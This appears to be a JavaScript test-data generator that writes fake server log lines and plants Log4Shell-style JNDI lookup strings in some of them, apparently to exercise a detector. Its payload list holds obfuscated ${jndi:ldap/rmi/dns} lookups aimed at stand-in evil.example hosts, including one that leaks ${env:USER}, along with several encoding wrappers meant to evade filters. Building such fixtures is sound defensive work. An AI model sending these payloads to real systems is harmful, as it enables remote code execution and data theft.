/** Lines of logs as servers write them, one kind a function, and attacks in them. */

const words =
  'account order session cart invoice catalog search report upload worker queue gateway shard replica tenant billing profile image cache index token event batch export schedule mailer audit metric health ledger stock price route device firmware sensor ticket review comment thread archive backup restore migrate cluster leader follower partition offset commit retry timeout connect close open read write flush merge split'.split(
    ' ',
  )
const agents = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.93 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64; rv:95.0) Gecko/20100101 Firefox/95.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 15_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/15.1 Mobile/15E148 Safari/604.1',
  'curl/7.79.1',
  'kube-probe/1.22',
  'Prometheus/2.31.1',
]
const levels = ['INFO ', 'INFO ', 'INFO ', 'DEBUG', 'WARN ', 'ERROR']
const months = ['Oct', 'Nov', 'Dec']

const two = (n) => (n < 10 ? `0${n}` : `${n}`)
const clock = (chance) => `${two(chance.below(24))}:${two(chance.below(60))}:${two(chance.below(60))}`
const address = (chance) => `${1 + chance.below(223)}.${chance.below(256)}.${chance.below(256)}.${chance.below(256)}`
const path = (chance) =>
  `/${chance.of(words)}/${chance.of(words)}/${chance.below(1_000_000)}?${chance.of(words)}=${chance.below(100_000)}&sort=${chance.of(words)}`
const hex = (chance) =>
  chance
    .below(2 ** 32)
    .toString(16)
    .padStart(8, '0')

/** `said` stands where a client's text stands. */
const kinds = {
  access: (chance, said = chance.of(agents), to = path(chance)) =>
    `${address(chance)} - - [${two(1 + chance.below(28))}/${chance.of(months)}/2021:${clock(chance)} +0000] "GET ${to} HTTP/1.1" ${chance.of([200, 200, 200, 304, 404, 500])} ${chance.below(90_000)} "https://www.example/${chance.of(words)}" "${said}"`,
  application: (chance, said = `${chance.of(words)} ${chance.of(words)}`) =>
    `2021-12-${two(1 + chance.below(28))} ${clock(chance)},${chance.below(900) + 100} ${chance.of(levels)} [http-nio-8080-exec-${chance.below(200)}] c.example.${chance.of(words)}.${chance.of(words)}Service - ${chance.of(words)} ${chance.below(1_000_000)} of ${said} took ${chance.below(5_000)} ms (trace ${hex(chance)}${hex(chance)})`,
  json: (chance, said = chance.of(agents)) =>
    `{"time":"2021-12-${two(1 + chance.below(28))}T${clock(chance)}Z","level":"info","msg":"${chance.of(words)} ${chance.of(words)}","request_id":"${hex(chance)}-${hex(chance)}","remote_ip":"${address(chance)}","path":"${path(chance)}","user_agent":${JSON.stringify(said)},"latency_ms":${chance.below(3_000)}}`,
  system: (chance, said = `${chance.of(words)} ${chance.of(words)} ${chance.of(words)}`) =>
    `Dec ${two(1 + chance.below(28))} ${clock(chance)} web-${chance.below(40)} ${chance.of(words)}d[${chance.below(32_768)}]: ${chance.of(words)}: ${said} from ${address(chance)} port ${1_024 + chance.below(60_000)}`,
}

/** What is sent, with the host that tells one from the other. */
const payloads = [
  (host) => `\${jndi:ldap://${host}/a}`,
  (host) => `\${jndi:rmi://${host}:1099/x}`,
  (host) => `\${jndi:dns://${host}/q}`,
  (host) => `\${\${lower:j}ndi:\${lower:l}dap://${host}/a}`,
  (host) => `\${\${::-j}\${::-n}\${::-d}\${::-i}:\${::-l}\${::-d}\${::-a}\${::-p}://${host}:1389/\${env:USER}}`,
  (host) => `\${\${env:NaN:-j}ndi\${env:NaN:-:}\${env:NaN:-l}dap\${env:NaN:-:}//${host}/TomcatBypass}`,
  (host) => `\${jndi:ldap://127.0.0.1#${host}/Basic/Command/Base64/aWQ=}`,
  (host) => `\${\${upper:j}\${upper:n}di:ldaps://${host}/\${java:version}}`,
]
const wrappings = [
  (text) => text,
  (text) => text,
  encodeURIComponent,
  (text) => text.replace(/\$/g, '%24').replace(/\{/g, '%7B').replace(/\}/g, '%7d'),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replace(/[${}]/g, (letter) => `\\u00${letter.charCodeAt(0).toString(16)}`),
  (text) => text.replace(/[${}]/g, (letter) => `&#${letter.charCodeAt(0)};`),
]

/** A name that no other attack of the run has. */
export const hostOf = (number) => `a${number}.evil.example`

export function attack(chance, host) {
  return chance.of(wrappings)(chance.of(payloads)(host))
}

const names = Object.keys(kinds)

/** A line with an attack, or without. */
export function line(chance, said) {
  return kinds[chance.of(names)](chance, said)
}

export function attackedAccess(chance, said) {
  return kinds.access(chance, said)
}

const odd = ['%20', '%2F', '%3A', '%C3%A9', '%E2%82%AC', '%3D', '%26', '%2C', '%22', '%5B', '%5D', '%25', '%0A', '%40']
const opening = ['%7B', '%7b', '%24', '%24%24', '%257B', '%2524']

/** The request of a browser that encodes whatever it can; one in fifty lines has what attacks begin with, too. */
export function percentLine(chance) {
  let query = ''
  for (let i = 4 + chance.below(12); i > 0; i--) query += chance.of(words) + chance.of(odd) + chance.of(odd)
  if (chance.below(50) === 0) query += chance.of(opening) + chance.of(words) + chance.of(odd) + chance.of(opening)
  return kinds.access(chance, undefined, `/${chance.of(words)}?q=${query}`)
}
